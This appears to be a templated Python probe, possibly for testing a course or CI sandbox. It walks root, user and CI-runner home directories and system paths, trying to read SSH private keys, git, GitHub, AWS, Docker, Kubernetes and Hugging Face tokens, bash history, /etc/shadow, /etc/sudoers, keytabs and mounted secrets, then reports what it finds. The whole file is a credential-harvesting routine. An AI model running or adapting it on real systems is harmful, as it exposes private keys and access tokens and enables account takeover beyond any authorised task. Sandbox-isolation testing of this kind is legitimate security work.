import glob

HOME, COURSE = "@@HOME@@", "@@COURSE@@"
HOMES = (
    HOME,
    "/root",
    os.path.expanduser("~root"),
    "/home",
    *glob.glob("/home/*"),
    "/home/runner",
    "/github/home",
)
NAMES = (
    ".ssh/id_ed25519",
    ".ssh",
    ".netrc",
    ".git-credentials",
    ".gitconfig",
    ".config/gh/hosts.yml",
    ".bash_history",
    ".docker/config.json",
    ".aws/credentials",
    ".kube/config",
    ".cache/huggingface/token",
    ".pypirc",
)
for home in HOMES:
    for name in ("", *NAMES):
        attempt(f"{home}/{name}", read, f"{home}/{name}")
for path in (
    f"{COURSE}/.git/config",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/machine-id",
    "/etc/ssh",
    "/run",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/run/secrets",
    "/var/log",
    "/var/lib",
    "/etc/sudoers",
    "/etc/krb5.keytab",
    "/opt/hostedtoolcache",
    "/__w/_temp",
    "/etc/environment",
):
    attempt(path, read, path)
report()
